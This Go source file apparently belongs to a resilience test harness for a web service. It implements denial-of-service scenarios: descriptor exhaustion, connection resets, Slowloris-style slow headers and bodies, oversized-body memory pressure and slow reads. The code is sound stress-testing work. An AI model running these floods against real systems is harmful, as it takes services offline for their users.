package main

import (
	"context"
	"io"
	"time"
)

const (
	manyConnections = 3_500 // more than the program has descriptors
	dripPause       = time.Second
)

func holdIdle(ctx context.Context, a *attacker) {
	a.flood(ctx, 5_000, func(ctx context.Context, _ int64) (string, error) {
		conn, err := a.dial(ctx)
		if err != nil {
			return "", err
		}
		return holdUntilClosed(ctx, conn, 0, 0)
	})
}

// holdFromMany takes all connections that there are: victims that are connected must not
// notice.
func holdFromMany(ctx context.Context, a *attacker) {
	a.flood(ctx, 5_000, func(ctx context.Context, n int64) (string, error) {
		conn, err := a.from(n%50 + 1).dial(ctx)
		if err != nil {
			return "", err
		}
		return holdUntilClosed(ctx, conn, 0, 0)
	})
}

// dropConnections stops at 10,000, so that the kernel's queues are not the subject.
func dropConnections(ctx context.Context, a *attacker) {
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	a.flood(ctx, 64, func(ctx context.Context, n int64) (string, error) {
		if n >= 10_000 {
			cancel()
			return "done", nil
		}
		conn, err := a.dial(ctx)
		if err != nil {
			return "", err
		}
		_ = conn.SetLinger(0) // its end is a reset
		conn.end()
		return "dropped", nil
	})
}

func dripHeads(ctx context.Context, a *attacker) {
	a.flood(ctx, manyConnections, func(ctx context.Context, _ int64) (string, error) {
		conn, err := a.begin(ctx, formatHead("GET", "/v1/vote", a.Viewer, -1)+"X-Slow: ")
		if err != nil {
			return "", err
		}
		return holdUntilClosed(ctx, conn, dripPause, 'x')
	})
}

func dripBodies(ctx context.Context, a *attacker) {
	a.flood(ctx, manyConnections, func(ctx context.Context, _ int64) (string, error) {
		conn, err := a.begin(ctx, formatHead("POST", "/v1/vote", a.Viewer, 1_000)+"\r\n")
		if err != nil {
			return "", err
		}
		return holdUntilClosed(ctx, conn, dripPause, ' ')
	})
}

func announceBodies(ctx context.Context, a *attacker) {
	head := formatHead("POST", "/sandbox/v1/authtoken", "", 256<<10) + "\r\n"
	a.flood(ctx, 2_500, func(ctx context.Context, n int64) (string, error) {
		conn, err := a.begin(ctx, head)
		if err != nil {
			return "", err
		}
		// Two waves: what the first one allocated is used again, and cleared, which
		// makes it resident.
		until, cancel := context.WithTimeout(ctx, a.Duration/3)
		defer cancel()
		context.AfterFunc(until, conn.end)
		if outcome, err := holdUntilClosed(until, conn, 0, 0); err == nil {
			return outcome, nil
		}
		return "held", nil
	})
}

// ignorePages fills a buffer and then has many pages of it sent to connections that
// are not read, whose receive buffers are as small as they can be.
func ignorePages(ctx context.Context, a *attacker) {
	client := a.newClient(4)
	body := `{"d":"` + text(60_000) + `"}`
	for range 150 {
		outcome, err := a.send(ctx, client, a.Crowd[1], "POST", "/v1/accumulate?id=pages", body)
		if err != nil {
			outcome = describeError(err)
		}
		a.count("append: " + outcome)
	}
	a.flood(ctx, 600, func(ctx context.Context, _ int64) (string, error) {
		conn, err := a.dial(ctx)
		if err != nil {
			return "", err
		}
		defer conn.end()
		_ = conn.SetReadBuffer(1 << 10) // an attacker's choice
		if _, err := io.WriteString(conn, formatHead("GET", "/v1/accumulate?id=pages", a.Broadcaster, -1)+"\r\n"); err != nil {
			return "", err
		}
		status := make([]byte, 12)
		if _, err := io.ReadFull(conn, status); err != nil {
			return "", err
		}
		wait(ctx, time.Minute)
		return string(status[9:]), nil
	})
}
